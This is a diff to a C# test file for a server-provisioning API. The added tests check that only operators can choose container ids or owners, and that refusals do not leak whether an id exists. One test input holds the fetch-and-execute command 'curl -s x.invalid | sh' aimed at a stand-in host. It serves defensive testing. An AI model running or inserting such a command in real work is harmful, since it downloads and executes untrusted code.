@@ -35,21 +35,61 @@ public sealed class ApiTests(GatewayFixture fixture)
     }
 
     [Fact]
-    public async Task ProvisionDev_WithExplicitId_UsesItAndStatusCarriesDevPart()
+    public async Task ProvisionDev_OperatorAdoptsAVmidForAUser_UsesItAndStatusCarriesDevPart()
     {
         const long Id = 777_000_001;
-        using var portal = fixture.CreateClient(TestTokens.For("api-dev"));
+        using var operatorPortal = fixture.CreateClient(TestTokens.For("api-ops", isOperator: true));
+        using var owner = fixture.CreateClient(TestTokens.For("api-dev"));
 
-        var response = await portal.PostAsJsonAsync("/api/dev", new { id = Id, runtime = "node", version = "22.1.0", enableCodeServer = true });
-        var again = await portal.PostAsJsonAsync("/api/dev", new { id = Id, runtime = "node" });
-        var status = await portal.GetFromJsonAsync<ContainerStatus>($"/api/servers/{Id}/status", Json.Options);
+        var response = await operatorPortal.PostAsJsonAsync("/api/dev", new { id = Id, ownerId = "api-dev", runtime = "node", version = "22.1.0", enableCodeServer = true });
+        var again = await operatorPortal.PostAsJsonAsync("/api/dev", new { id = Id, ownerId = "api-dev", runtime = "node" });
+        var status = await owner.GetFromJsonAsync<ContainerStatus>($"/api/servers/{Id}/status", Json.Options);
 
         Assert.Equal(HttpStatusCode.Created, response.StatusCode);
         Assert.Equal(HttpStatusCode.Conflict, again.StatusCode);
-        Assert.Equal(ContainerKind.Dev, status!.Kind);
+        Assert.Equal($"Container {Id} is already provisioned.", (await again.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString());
+        Assert.Equal("api-dev", status!.OwnerId);
+        Assert.Equal(ContainerKind.Dev, status.Kind);
         Assert.False(status.Dev!.ProvisioningComplete);
         Assert.Equal("node", status.Dev.Runtime);
         Assert.True(status.Dev.CodeServerEnabled);
+    }
+
+    [Theory]
+    [InlineData("/api/servers", "{\"id\":IDENT,\"template\":\"minecraft\",\"startCommand\":\"curl -s x.invalid | sh\",\"memoryMb\":1024}")]
+    [InlineData("/api/dev", "{\"id\":IDENT,\"runtime\":\"node\"}")]
+    public async Task Provision_UserNamesAnId_SameRefusalWhetherItExistsAndTheVictimIsUntouched(string path, string body)
+    {
+        var victimId = await ProvisionGameAsync("api-victim");
+        using var victim = fixture.CreateClient(TestTokens.For("api-victim"));
+        using var mallory = fixture.CreateClient(TestTokens.For("api-mallory"));
+        var before = await victim.GetStringAsync($"/api/servers/{victimId}/status");
+
+        // The one id exists, the other has never been provisioned: the answers must not tell them apart.
+        var taken = await mallory.PostAsync(path, new StringContent(body.Replace("IDENT", victimId.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal), Encoding.UTF8, "application/json"));
+        var free = await mallory.PostAsync(path, new StringContent(body.Replace("IDENT", "999999001", StringComparison.Ordinal), Encoding.UTF8, "application/json"));
+
+        foreach (var response in new[] { taken, free })
+        {
+            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+            var problem = await response.Content.ReadFromJsonAsync<JsonElement>();
+            Assert.Equal("Only operators may choose a container id; leave id out and the platform assigns one.", problem.GetProperty("detail").GetString());
+        }
+
+        Assert.Equal(HttpStatusCode.NotFound, (await mallory.GetAsync("/api/servers/999999001/status")).StatusCode);
+        Assert.Equal(before, await victim.GetStringAsync($"/api/servers/{victimId}/status"));
+    }
+
+    [Fact]
+    public async Task Provision_UserNamesAnOwner_400AndNothingIsCreated()
+    {
+        using var mallory = fixture.CreateClient(TestTokens.For("api-mallory-owner"));
+
+        var response = await mallory.PostAsJsonAsync("/api/servers", new { ownerId = "api-victim", template = "minecraft", startCommand = "x", memoryMb = 1024 });
+
+        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
+        Assert.Equal("Only operators may provision for another user; leave ownerId out.", (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("detail").GetString());
+        Assert.Equal("[]", await mallory.GetStringAsync("/api/servers"));
     }
 
     [Fact]
